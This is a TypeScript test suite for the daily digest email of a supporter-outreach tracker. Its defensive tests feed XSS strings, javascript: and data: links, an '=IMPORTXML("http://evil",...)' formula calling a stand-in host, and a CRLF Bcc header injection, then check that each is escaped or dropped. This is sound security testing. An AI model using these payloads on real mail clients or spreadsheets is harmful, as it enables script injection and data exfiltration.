import fc from 'fast-check';
import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {
  DIGEST_LIMITS,
  renderDigest,
  type DigestEmail,
  type DigestEngagement,
  type DigestInput,
  type DigestLine,
  type DigestNewBeliever,
} from '../../src/core/digest';
import {digestExtras} from '../../src/core/digest-content';
import {parseDigestAnswer} from '../../src/core/digest-settings';
import type {NewPerson} from '../../src/core/sync/matching';
import {NETWORKS} from '../../src/core/handles';
import {BUCKETS, type Bucket} from '../../src/core/outreach';
import {BANDS} from '../../src/core/settings';

const SAMPLE: DigestInput = JSON.parse(
  readFileSync(join(__dirname, '../fixtures/digest/sample.json'), 'utf8'),
);

const EMPTY: DigestInput = {
  ...SAMPLE,
  lines: [],
  birthdays: [],
  engagement: [],
  bandMoves: [],
  allQuiet: false,
};

const XSS_NAME = '<img src=x onerror=alert(1)>';
const FORMULA_NOTE = '=IMPORTXML("http://evil","//a")';

function render(input: DigestInput): DigestEmail {
  const digest = renderDigest(input);
  if (!digest) throw new Error('expected an email');
  return digest;
}

function line(i: number, more: Partial<DigestLine> = {}): DigestLine {
  return {
    date: '2026-03-01',
    priority: i,
    supporterId: `S-${i}`,
    name: `Person ${i}`,
    bucket: 'thank',
    bucketLabel: 'Thank them',
    why: `Reason ${i}`,
    action: `Thank Person ${i}`,
    compose: {text: `Thanks, Person ${i}!`, x: `@p${i} Thanks, Person ${i}!`},
    logKind: 'thanks',
    channel: 'x',
    event: null,
    responsiveness: 50,
    band: 'Warm',
    whuffie: 3,
    level: 'Engager',
    handles: {x: `@p${i}`},
    ...more,
  };
}

function engagement(
  i: number,
  more: Partial<DigestEngagement> = {},
): DigestEngagement {
  return {
    name: `Fan ${i}`,
    kind: 'like',
    when: new Date(Date.UTC(2026, 1, 28, 0, i)).toISOString(),
    note: `Post ${i}`,
    link: `https://x.com/fan${i}/status/${i}`,
    channel: 'x',
    ...more,
  };
}

const TIGER_FAN: DigestNewBeliever = {
  name: 'Tiger Fan',
  handle: 'tigerfan.bsky.social',
  network: 'bluesky',
  profileUrl: 'https://bsky.app/profile/tigerfan.bsky.social',
  reposts: 3,
  conversations: 1,
  likes: 0,
  follows: 0,
};

function believer(
  i: number,
  more: Partial<DigestNewBeliever> = {},
): DigestNewBeliever {
  return {
    name: `Stranger ${i}`,
    handle: `stranger${i}`,
    network: 'x',
    profileUrl: `https://x.com/stranger${i}`,
    reposts: 0,
    conversations: 0,
    likes: 1,
    follows: 0,
    ...more,
  };
}

/** Where each string first appears; -1 when missing. */
const positions = (text: string, parts: string[]) =>
  parts.map(p => text.indexOf(p));

const ascending = (xs: number[]) =>
  xs.every((x, i) => x >= 0 && (i === 0 || x > xs[i - 1]));

// ---------------------------------------------------------------------------
// A tiny parser for the HTML the digest emits: tags we know, with quoted
// attributes, and text with no `<` or `>` at all. Anything a supporter could
// smuggle in (a tag, an attribute, a script) fails it.

const TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'body',
  'div',
  'table',
  'tr',
  'td',
  'h1',
  'h2',
  'p',
  'a',
  'span',
  'strong',
]);
const VOID_TAGS = new Set(['meta']);
const ATTRIBUTES = new Set([
  'lang',
  'charset',
  'name',
  'content',
  'style',
  'role',
  'width',
  'cellpadding',
  'cellspacing',
  'border',
  'align',
  'valign',
  'href',
]);

function parseHtml(html: string): {tags: string[]; hrefs: string[]} {
  const token =
    /<!DOCTYPE html>|<(\/?)([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*>|[^<>]+/y;
  const stack: string[] = [];
  const tags: string[] = [];
  const hrefs: string[] = [];
  let pos = 0;
  while (pos < html.length) {
    token.lastIndex = pos;
    const m = token.exec(html);
    if (!m)
      throw new Error(`stray markup at ${pos}: ${html.slice(pos, pos + 40)}`);
    pos = token.lastIndex;
    const [, close, tag, attrs] = m;
    if (!tag) continue;
    if (!TAGS.has(tag)) throw new Error(`unknown tag <${tag}>`);
    tags.push(tag);
    for (const [, name, value] of (attrs ?? '').matchAll(
      /([a-z-]+)="([^"]*)"/g,
    )) {
      if (!ATTRIBUTES.has(name)) throw new Error(`unknown attribute ${name}`);
      if (name === 'href') hrefs.push(value);
    }
    if (VOID_TAGS.has(tag)) continue;
    if (!close) stack.push(tag);
    else if (stack.pop() !== tag) throw new Error(`unbalanced </${tag}>`);
  }
  if (stack.length) throw new Error(`unclosed <${stack.join('>, <')}>`);
  return {tags, hrefs};
}

// ---------------------------------------------------------------------------

describe('the daily digest of a real day', () => {
  const digest = render(SAMPLE);

  test('the subject says how many people and what is most pressing', () => {
    expect(digest.subject).toBe(
      'Reach out today: 8 people \u2014 Maya Lopez\u2019s birthday, 1 reply owed, 2 to thank, 1 to catch up with',
    );
    expect(digest.subject.length).toBeLessThanOrEqual(100);
  });

  test('both bodies list today, birthdays, new engagement and band moves, in that order', () => {
    const headings = [
      'Reach out today',
      'Birthdays this week',
      'New since yesterday',
      'Warming up',
      'Cooling down',
    ];
    expect(
      ascending(
        positions(
          digest.html,
          headings.map(t => `>${t}</h2>`),
        ),
      ),
    ).toBe(true);
    expect(
      ascending(
        positions(
          digest.text,
          headings.map(t => `\n${t.toUpperCase()}\n${'='.repeat(t.length)}\n`),
        ),
      ),
    ).toBe(true);
    for (const [body, last] of [
      [digest.html, '>Cooling down</h2>'],
      [digest.text, 'COOLING DOWN'],
    ]) {
      expect(ascending(positions(body, [last, 'Open the tracker']))).toBe(true);
      const names = SAMPLE.lines.map(l => l.name);
      expect(ascending(positions(body, names))).toBe(true);
      expect(body).toContain('Sunday 1 March 2026');
      expect(body).toContain('Riverside Wildlife Trust supporters');
    }
  });

  test('each line has its priority, name, why, action and suggested post', () => {
    const sam = SAMPLE.lines[1];
    expect(digest.text).toContain('2. Sam Okafor [Reply owed]');
    expect(digest.text).toContain(sam.action);
    expect(digest.text).toContain(
      'Suggested post: \u201cThanks for your question, Sam!\u201d',
    );
    const html = digest.html;
    expect(html).toContain('>2</div>');
    expect(html).toContain('>Sam Okafor</strong>');
    expect(html).toContain(
      'Answer Sam&#39;s question: &#39;How can I volunteer',
    );
    expect(html).toContain('Asked: &#39;How can I volunteer');
  });

  test('compose links start with their handle; profiles and the post they made are linked', () => {
    const tweet =
      'https://twitter.com/intent/tweet?text=%40mayalopez%20Happy%20birthday%2C%20Maya!%20Wishing%20you%20a%20wonderful%20day.';
    const bsky =
      'https://bsky.app/intent/compose?text=%40maya.bsky.social%20Happy%20birthday';
    expect(digest.text).toContain(`Post on X:\n   ${tweet}\n`);
    expect(digest.text).toContain(`Post on Bluesky:\n   ${bsky}`);
    expect(digest.html).toContain(`href="${tweet}"`);
    expect(digest.html).toContain('>Post on Bluesky</a>');
    expect(digest.html).toContain('href="https://x.com/mayalopez"');
    expect(digest.html).toContain(
      'href="https://bsky.app/profile/maya.bsky.social"',
    );
    expect(digest.html).toContain(
      'href="https://x.com/samokafor/status/1895512345678901234"',
    );
    expect(digest.text).toContain(
      'Post on Mastodon:\n   https://mastodon.social/share?text=%40jonas%40mastodon.social%20Thank',
    );
    // A heads-up has nothing to post: no compose link, the profile only.
    const chris = digest.text.slice(digest.text.indexOf('8. Chris Wu'));
    expect(chris.slice(0, chris.indexOf('BIRTHDAYS'))).not.toContain('Post on');
  });

  test('"Open the tracker" opens the Reach out today tab', () => {
    const url = `${SAMPLE.sheetUrl}#gid=1843920173`;
    expect(digest.html).toMatch(
      new RegExp(
        `<a href="${url.replace(/[.?]/g, '\\$&')}"[^>]*>Open the tracker</a>`,
      ),
    );
    expect(digest.text).toContain(`Open the tracker:\n${url}\n`);
  });

  test('birthdays, engagement (newest first) and band moves read naturally', () => {
    expect(digest.text).toContain(
      '- Maya Lopez \u2014 today \u00b7 loves tigers',
    );
    expect(digest.text).toContain('- Dana Kim \u2014 Wednesday, in 3 days');
    expect(digest.text).toContain('- Leila Haddad \u2014 replied to us on X');
    expect(digest.text).toContain(
      '  \u201cThe new otter footage is wonderful, thank you for sharing it!\u201d',
    );
    expect(
      ascending(
        positions(digest.text, [
          'Ana Costa \u2014 donated by email',
          'Leila Haddad \u2014 replied',
          'Oliver Grant \u2014 followed us on Bluesky',
          'Maya Lopez \u2014 liked our post on X',
          'Priya Shah \u2014 reposted us on Bluesky',
        ]),
      ),
    ).toBe(true);
    const warming = digest.text.indexOf('WARMING UP');
    const cooling = digest.text.indexOf('COOLING DOWN');
    expect(digest.text.slice(warming, cooling)).toContain(
      'Leila Haddad \u2014 Warm \u2192 Hot (responsiveness 71)',
    );
    expect(digest.text.slice(cooling)).toContain(
      'Tom Becker \u2014 Warm \u2192 Cool (responsiveness 31)',
    );
  });

  test('the text body wraps at 78 characters; only URLs are longer', () => {
    for (const row of digest.text.split('\n')) {
      if (row.length > 78) expect(row.trim()).toMatch(/^https?:\/\/\S+$/);
    }
  });

  test('the HTML is a 600-pixel table layout with inline styles, nothing loaded, nothing run', () => {
    const {tags} = parseHtml(digest.html);
    expect(tags).toContain('table');
    expect(digest.html).toContain('max-width:600px');
    const widths = [
      ...digest.html.matchAll(/width="(\d+)"|width:(\d+)px/g),
    ].map(m => Number(m[1] ?? m[2]));
    expect(Math.max(...widths)).toBe(600);
    expect(digest.html).not.toMatch(/<style|<script|<img|<link|\bsrc=|url\(/i);
  });
});

describe('nothing to report', () => {
  test('no email by default', () => {
    expect(renderDigest(EMPTY)).toBeNull();
  });

  test('people who stayed in their band are not news', () => {
    expect(
      renderDigest({
        ...EMPTY,
        bandMoves: [
          {name: 'Sam', from: 'Warm', to: 'Warm', responsiveness: 50},
        ],
      }),
    ).toBeNull();
  });

  test('with the "all quiet" setting, a short mail that says so', () => {
    const quiet = render({...EMPTY, allQuiet: true});
    expect(quiet.subject).toBe('All quiet today');
    expect(quiet.text).toMatch(/^All quiet today \u2014 Sunday 1 March 2026\n/);
    expect(quiet.text).toContain('Nobody to reach out to');
    expect(quiet.html).toContain('All quiet today</h1>');
    expect(quiet.html).toContain('>Open the tracker</a>');
    expect(quiet.html).not.toContain('<h2');
    parseHtml(quiet.html);
  });

  test('a day with only engagement or birthdays still gets a specific subject', () => {
    expect(
      render({...EMPTY, engagement: [engagement(1), engagement(2)]}).subject,
    ).toBe('2 new engagements since yesterday');
    expect(
      render({
        ...EMPTY,
        birthdays: [{name: 'Dana Kim', date: '2026-03-04', inDays: 3}],
        bandMoves: [
          {name: 'Sam', from: 'Cool', to: 'Warm', responsiveness: 50},
        ],
      }).subject,
    ).toBe('Dana Kim\u2019s birthday on Wednesday, 1 supporter moved band');
  });
});

describe('what supporters wrote stays text', () => {
  const hostile: DigestInput = {
    ...SAMPLE,
    spreadsheetName: XSS_NAME,
    todayLabel: XSS_NAME,
    lines: [
      line(1, {
        name: XSS_NAME,
        why: FORMULA_NOTE,
        action: `Thank ${XSS_NAME}`,
        compose: {text: FORMULA_NOTE, x: `@evil ${FORMULA_NOTE}`},
        handles: {x: '@evil'},
        event: {
          eventId: 'e1',
          kind: 'reply',
          channel: 'x',
          note: FORMULA_NOTE,
          link: 'javascript:alert(1)',
          when: '2026-02-28T10:00:00Z',
        },
      }),
    ],
    birthdays: [
      {name: XSS_NAME, date: '2026-03-02', inDays: 1, interest: FORMULA_NOTE},
    ],
    engagement: [
      engagement(1, {
        name: XSS_NAME,
        note: FORMULA_NOTE,
        link: ' JavaScript:alert(1)',
      }),
      engagement(2, {link: 'data:text/html,<script>alert(1)</script>'}),
    ],
    bandMoves: [{name: XSS_NAME, from: 'Cool', to: 'Hot', responsiveness: 80}],
  };
  const digest = render(hostile);

  test('a name like <img src=x onerror=alert(1)> is escaped in the HTML', () => {
    expect(digest.html).not.toContain('<img');
    expect(digest.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    parseHtml(digest.html);
  });

  test('a note like =IMPORTXML(...) is plain text, never a link', () => {
    expect(digest.html).toContain(
      '=IMPORTXML(&quot;http://evil&quot;,&quot;//a&quot;)',
    );
    expect(digest.html).not.toContain('href="http://evil');
  });

  test('the text body shows both verbatim', () => {
    expect(digest.text).toContain(`1. ${XSS_NAME} [Thank them]`);
    expect(digest.text).toContain(FORMULA_NOTE);
    expect(digest.text).toContain(`- ${XSS_NAME} \u2014 tomorrow (Monday)`);
  });

  test('javascript: and data: links are dropped from both bodies', () => {
    for (const body of [digest.html, digest.text]) {
      expect(body.toLowerCase()).not.toContain('javascript:');
      expect(body).not.toContain('data:text');
    }
    expect(digest.html).not.toContain('View their post');
    const unsafe = render({...SAMPLE, sheetUrl: 'javascript:alert(1)'});
    expect(unsafe.html).not.toContain('Open the tracker');
    expect(unsafe.text).not.toContain('Open the tracker');
  });

  test('line breaks in a name cannot forge lines or headers', () => {
    const forged = render({
      ...EMPTY,
      birthdays: [
        {
          name: 'Ann\r\nBcc: everyone@example.org',
          date: '2026-03-01',
          inDays: 0,
        },
      ],
    });
    expect(forged.subject).toBe(
      'Ann Bcc: everyone@example.org\u2019s birthday today',
    );
    expect(forged.text).toContain(
      '- Ann Bcc: everyone@example.org \u2014 today',
    );
  });
});

describe('believers you do not know yet', () => {
  const HEADING = 'Believers you don\u2019t know yet';
  const HINT =
    'Add them from the New people sheet (Action: Add as supporter or Match to suggested).';

  test('each one says who, where, what they did, with their profile, and how to add them', () => {
    const digest = render({...EMPTY, newBelievers: [TIGER_FAN]});
    expect(digest.subject).toBe('1 believer you don\u2019t know yet');
    expect(digest.text).toContain(
      `${HEADING.toUpperCase()}\n${'='.repeat(HEADING.length)}\n\n` +
        '- Tiger Fan \u2014 reposted us 3 times and replied to or mentioned us once on\n' +
        '  Bluesky \u00b7 @tigerfan.bsky.social\n' +
        '  https://bsky.app/profile/tigerfan.bsky.social\n' +
        'Add them from the New people sheet (Action: Add as supporter or Match to\n' +
        'suggested).\n',
    );
    expect(digest.html).toContain(`>${HEADING}</h2>`);
    expect(digest.html).toContain(
      '<strong>Tiger Fan</strong> reposted us 3 times and replied to or mentioned us once on Bluesky',
    );
    expect(digest.html).toMatch(
      /<a href="https:\/\/bsky\.app\/profile\/tigerfan\.bsky\.social"[^>]*>Profile<\/a>/,
    );
    expect(digest.html).toContain(`>${HINT}</td>`);
    expect(digest.html).toContain('1 believer you don\u2019t know yet');
    parseHtml(digest.html);
  });

  test('what they did reads naturally, whatever they did', () => {
    const text = render({
      ...EMPTY,
      newBelievers: [
        believer(1, {likes: 1}),
        believer(2, {name: '', likes: 4, follows: 1, conversations: 2}),
        believer(3, {network: 'mastodon', handle: '@s3@mastodon.example'}),
      ],
    }).text;
    expect(text).toContain(
      '- Stranger 1 \u2014 liked one of our posts on X \u00b7 @stranger1',
    );
    // No display name: the handle stands in, once.
    expect(text).toContain(
      '- @stranger2 \u2014 replied to or mentioned us twice, liked 4 of our posts and\n' +
        '  followed us on X\n',
    );
    expect(text).toContain('on Mastodon \u00b7 @s3@mastodon.example');
  });

  test('they come after the new engagement of supporters, and a busy day keeps its subject', () => {
    const digest = render({...SAMPLE, newBelievers: [TIGER_FAN]});
    expect(digest.subject).toBe(render(SAMPLE).subject);
    expect(
      ascending(
        positions(digest.html, [
          '>New since yesterday</h2>',
          `>${HEADING}</h2>`,
          '>Warming up</h2>',
        ]),
      ),
    ).toBe(true);
    expect(
      ascending(
        positions(digest.text, [
          'NEW SINCE YESTERDAY',
          HEADING.toUpperCase(),
          'WARMING UP',
        ]),
      ),
    ).toBe(true);
  });

  test('a few are shown, in the order given, and the rest counted', () => {
    const many = Array.from({length: 8}, (_, i) => believer(i + 1));
    const digest = render({...EMPTY, newBelievers: many});
    for (const body of [digest.html, digest.text]) {
      const names = many
        .slice(0, DIGEST_LIMITS.newBelievers)
        .map(b => `${b.name}`);
      expect(ascending(positions(body, names))).toBe(true);
      expect(body).not.toContain(`Stranger ${DIGEST_LIMITS.newBelievers + 1}`);
      expect(body).toContain(
        `\u2026and ${8 - DIGEST_LIMITS.newBelievers} more on the New people sheet`,
      );
      expect(
        ascending(positions(body, ['more on the New people', 'Add them from'])),
      ).toBe(true);
      expect(body).toContain('8 believers you don\u2019t know yet');
    }
  });

  test('the section is absent when nobody new engaged, and alone it is news', () => {
    const plain = render(SAMPLE);
    expect(plain.html).not.toContain(HEADING);
    expect(plain.text).not.toContain(HEADING.toUpperCase());
    expect(plain.text).not.toContain(HINT);
    expect(renderDigest({...EMPTY, newBelievers: []})).toBeNull();
    const quiet = render({...EMPTY, newBelievers: [], allQuiet: true});
    expect(quiet.subject).toBe('All quiet today');
    expect(quiet.html).not.toContain(HEADING);
    const alone = render({...EMPTY, newBelievers: [TIGER_FAN]});
    expect(alone.subject).not.toBe('All quiet today');
    expect(alone.text).not.toContain('Nobody to reach out to');
  });

  test('names and handles from the networks stay text; an unsafe profile is not linked', () => {
    const digest = render({
      ...EMPTY,
      newBelievers: [
        believer(1, {
          name: XSS_NAME,
          handle: '"><script>alert(1)</script>',
          profileUrl: 'javascript:alert(1)',
        }),
        believer(2, {name: FORMULA_NOTE, profileUrl: ' JavaScript:alert(1)'}),
      ],
    });
    expect(digest.html).not.toContain('<img');
    expect(digest.html).not.toContain('<script');
    expect(digest.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(digest.html).toContain(
      '=IMPORTXML(&quot;http://evil&quot;,&quot;//a&quot;)',
    );
    expect(digest.html).not.toContain('href="http://evil');
    expect(digest.text).toContain(
      `- ${XSS_NAME} \u2014 liked one of our posts`,
    );
    expect(digest.text).toContain(`- ${FORMULA_NOTE} \u2014 liked one`);
    for (const body of [digest.html, digest.text]) {
      expect(body.toLowerCase()).not.toContain('javascript:');
      expect(body).not.toContain('Profile');
    }
    // Only "Open the tracker" is a link.
    expect(parseHtml(digest.html).hrefs).toEqual([
      expect.stringMatching(/^https:\/\/docs\.google\.com\//),
    ]);
  });
});

describe('who the digest names as believers you do not know yet', () => {
  const now = new Date('2026-03-01T08:30:00Z');
  const hoursAgo = (h: number) => new Date(now.getTime() - h * 3600 * 1000);
  function person(
    handle: string,
    lastSeen: Date,
    more: Partial<NewPerson> = {},
  ): NewPerson {
    return {
      person: {
        network: 'bluesky',
        id: `did:plc:${handle}`,
        handle,
        name: handle,
        profileUrl: `https://bsky.app/profile/${handle}`,
      },
      reposts: 0,
      conversations: 0,
      likes: 0,
      follows: 0,
      lastSeen,
      suggestion: '',
      handled: false,
      eventIds: [],
      ...more,
    };
  }
  const believers = (newPeople: NewPerson[]) =>
    digestExtras({
      people: new Map(),
      scores: [],
      events: [],
      newPeople,
      now,
      timeZone: 'Europe/London',
    }).newBelievers.map(b => b.handle);

  test('the most engaged first, then the most recent', () => {
    expect(
      believers([
        person('liker', hoursAgo(1), {likes: 1}),
        person('reposter', hoursAgo(5), {reposts: 2, likes: 1}),
        person('replier', hoursAgo(3), {conversations: 1}),
        person('older-replier', hoursAgo(4), {conversations: 1}),
      ]),
    ).toEqual(['reposter', 'replier', 'older-replier', 'liker']);
  });

  test('only who engaged since yesterday and is not handled yet', () => {
    expect(
      believers([
        person('today', hoursAgo(23), {reposts: 1}),
        person('before-the-last-digest', hoursAgo(25), {reposts: 9}),
        person('added-already', hoursAgo(1), {reposts: 9, handled: true}),
      ]),
    ).toEqual(['today']);
  });

  test('the counts and the profile go through as the sheet has them', () => {
    const [b] = digestExtras({
      people: new Map(),
      scores: [],
      events: [],
      newPeople: [
        person('tigerfan.bsky.social', hoursAgo(1), {
          reposts: 3,
          conversations: 1,
          likes: 2,
          follows: 1,
        }),
      ],
      now,
      timeZone: 'Europe/London',
    }).newBelievers;
    expect(b).toEqual({
      name: 'tigerfan.bsky.social',
      handle: 'tigerfan.bsky.social',
      network: 'bluesky',
      profileUrl: 'https://bsky.app/profile/tigerfan.bsky.social',
      reposts: 3,
      conversations: 1,
      likes: 2,
      follows: 1,
    });
  });
});

describe('long days', () => {
  test('the subject stays under 100 characters, whatever the names', () => {
    const long =
      'Maximiliana Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh';
    const lines = BUCKETS.flatMap(({id, label}, b) =>
      [1, 2].map(k =>
        line(b * 2 + k, {
          name: long,
          bucket: id,
          bucketLabel: label,
          logKind: 'x',
        }),
      ),
    );
    const subject = render({
      ...EMPTY,
      lines: [lines[0], ...lines.slice(2)],
    }).subject;
    expect(subject.length).toBeLessThanOrEqual(100);
    expect(subject).toMatch(/^Reach out today: 11 people \u2014 Maximiliana/);
    expect(subject).toContain('\u2026\u2019s birthday, 2 replies owed');
  });

  test('long lists show the first ones and say how many more', () => {
    const lines = Array.from({length: 30}, (_, i) => line(i + 1));
    const many = Array.from({length: 25}, (_, i) => engagement(i));
    const digest = render({...EMPTY, lines, engagement: many});
    expect(digest.subject).toBe(
      'Reach out today: 30 people \u2014 30 to thank',
    );
    for (const body of [digest.html, digest.text]) {
      expect(body).toContain(
        `\u2026and ${30 - DIGEST_LIMITS.lines} more on the Reach out today tab`,
      );
      expect(body).toContain(
        `\u2026and ${25 - DIGEST_LIMITS.engagement} more in the Interactions log`,
      );
      expect(body).toContain(`Person ${DIGEST_LIMITS.lines}`);
      expect(body).not.toContain(`Person ${DIGEST_LIMITS.lines + 1}`);
      // Newest first: the last ten minutes of the 25.
      expect(body).toContain('Fan 24');
      expect(body).not.toContain('Fan 14 ');
    }
    expect(digest.html).toContain('30 people to reach out to');
    expect(digest.html).toContain('25 new engagements');
  });
});

describe('any text at all', () => {
  const hostileText = fc.oneof(
    fc.string({unit: 'binary', maxLength: 40}),
    fc.string({
      unit: fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '=',
        '/',
        ' ',
        '\n',
        'a',
        'img',
        'script',
        'javascript:',
        'https://',
        '&lt;',
        '\uD83D',
        '\uDE00',
      ),
      maxLength: 30,
    }),
  );
  const bucket = fc.constantFrom(
    ...BUCKETS.map(b => b.id),
  ) as fc.Arbitrary<Bucket>;
  const band = fc.constantFrom(...BANDS);
  const lineArb = fc.record({
    name: hostileText,
    bucket,
    bucketLabel: hostileText,
    why: hostileText,
    action: hostileText,
    text: hostileText,
    x: hostileText,
    bluesky: hostileText,
    mastodon: hostileText,
    handle: hostileText,
    note: hostileText,
    link: hostileText,
    kind: hostileText,
  });
  const input = fc.record({
    spreadsheetName: hostileText,
    sheetUrl: hostileText,
    todayLabel: hostileText,
    allQuiet: fc.boolean(),
    lines: fc.array(lineArb, {maxLength: 3}),
    birthdays: fc.array(
      fc.record({
        name: hostileText,
        date: hostileText,
        inDays: fc.integer({min: 0, max: 7}),
        interest: hostileText,
      }),
      {maxLength: 2},
    ),
    engagement: fc.array(
      fc.record({
        name: hostileText,
        kind: hostileText,
        when: hostileText,
        note: hostileText,
        link: hostileText,
        channel: hostileText,
      }),
      {maxLength: 3},
    ),
    newBelievers: fc.array(
      fc.record({
        name: hostileText,
        handle: hostileText,
        network: fc.constantFrom(...NETWORKS),
        profileUrl: hostileText,
        reposts: fc.integer({min: 0, max: 5}),
        conversations: fc.integer({min: 0, max: 5}),
        likes: fc.integer({min: 0, max: 5}),
        follows: fc.integer({min: 0, max: 1}),
      }),
      {maxLength: 3},
    ),
    bandMoves: fc.array(
      fc.record({
        name: hostileText,
        from: band,
        to: band,
        responsiveness: fc.integer({min: 0, max: 100}),
      }),
      {maxLength: 2},
    ),
  });

  test('the HTML only ever holds our own tags and safe links', () => {
    fc.assert(
      fc.property(input, raw => {
        const digest = renderDigest({
          ...raw,
          lines: raw.lines.map((l, i) =>
            line(i + 1, {
              name: l.name,
              bucket: l.bucket,
              bucketLabel: l.bucketLabel,
              why: l.why,
              action: l.action,
              compose: {
                text: l.text,
                x: l.x,
                bluesky: l.bluesky,
                mastodon: l.mastodon,
              },
              handles: {x: l.handle, bluesky: l.handle, mastodon: l.handle},
              event: {
                eventId: '',
                kind: l.kind,
                channel: 'x',
                note: l.note,
                link: l.link,
                when: '',
              },
            }),
          ),
        });
        if (!digest) return;
        const {hrefs} = parseHtml(digest.html);
        for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:)/i);
        expect(digest.subject.length).toBeLessThanOrEqual(100);
        expect(digest.subject).not.toMatch(/[\r\n]/);
      }),
      {numRuns: 300},
    );
  });
});

describe('the Daily digest answer', () => {
  test('am and pm belong to the hour, not to an address', () => {
    expect(parseDigestAnswer('7pm')).toEqual({
      action: 'on',
      hour: 19,
      recipients: [],
    });
    expect(parseDigestAnswer('12 am')).toEqual({
      action: 'on',
      hour: 0,
      recipients: [],
    });
    expect(parseDigestAnswer('12 sam@example.org')).toEqual({
      action: 'on',
      hour: 12,
      recipients: ['sam@example.org'],
    });
    expect(parseDigestAnswer('7 ana@rpm.org')).toEqual({
      action: 'on',
      hour: 7,
      recipients: ['ana@rpm.org'],
    });
  });
});
